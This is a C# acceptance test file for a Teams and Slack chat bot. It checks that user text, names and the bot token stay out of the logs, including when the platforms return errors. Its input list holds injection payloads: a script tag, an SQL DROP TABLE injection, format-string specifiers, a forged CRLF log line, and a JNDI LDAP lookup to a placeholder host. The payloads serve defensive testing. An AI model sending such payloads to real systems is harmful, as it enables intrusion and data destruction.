using WorkshopBot.AcceptanceTests.Slack;
using WorkshopBot.AcceptanceTests.Teams;
using WorkshopBot.AcceptanceTests.Web;

namespace WorkshopBot.AcceptanceTests;

/// <summary>What people write, what they are called and what opens their rooms stands in no line of the log, not even when platforms fail.</summary>
public sealed class LogTests
{
    private static readonly string[] s_words =
    [
        "Zörbing {0} {Workshop} with the pharmacist", "<script>alert('pharmacist')</script>", "'; DROP TABLE events; -- pharmacist", "%s%n%x pharmacist",
        "pharmacist\r\nERROR forged line", "\u001b[31mpharmacist", "${jndi:ldap://pharmacist.example/a}",
    ];

    [Fact]
    public async Task In_Teams()
    {
        using var log = new LogCapture();
        await using (var team = await TeamsTeam.StartAsync(log: log))
        {
            await team.SayAsync("Nora", $"start Counter of {s_words[0]}");
            await HostileAsync(words => team.SayAsync("Nora", words));
            team.Cloud.Fault = _ => new WorkshopBot.Tests.Teams.Support.FakeFault(403, "BotNotInConversationRoster");
            await HostileAsync(words => team.SayAsync("Maya", words));
        }

        Assert.Contains("The connector answered 403", log.Text, StringComparison.Ordinal);
        IsClean(log.Text);
    }

    [Fact]
    public async Task In_Slack()
    {
        using var log = new LogCapture();
        await using (var team = await SlackTeam.StartAsync(log: log))
        {
            await team.SayAsync("Nora", $"start Counter of {s_words[0]}");
            await HostileAsync(words => team.SayAsync("Nora", words));
            await HostileAsync(words => team.CommandAsync("Maya", words));
            team.Slack.Fault = _ => new WorkshopBot.Tests.Slack.Support.FakeFault(200, "restricted_action");
            await HostileAsync(words => team.SayAsync("Maya", words));
        }

        Assert.Contains("Slack refused", log.Text, StringComparison.Ordinal);
        IsClean(log.Text);
        Assert.DoesNotContain(WorkshopBot.Tests.Slack.Support.FakeSlack.BotToken, log.Text, StringComparison.Ordinal);
    }

    private static async Task HostileAsync(Func<string, Task> say)
    {
        foreach (var words in s_words)
        {
            await say($"park {words}");
            await say(words);
        }
    }

    private static void IsClean(string log)
    {
        foreach (var secret in new[] { "pharmacist", "Zörbing", "DROP TABLE", "forged line", "Counter of", "Nora", "Maya" })
        {
            Assert.DoesNotContain(secret, log, StringComparison.OrdinalIgnoreCase);
        }
    }
}
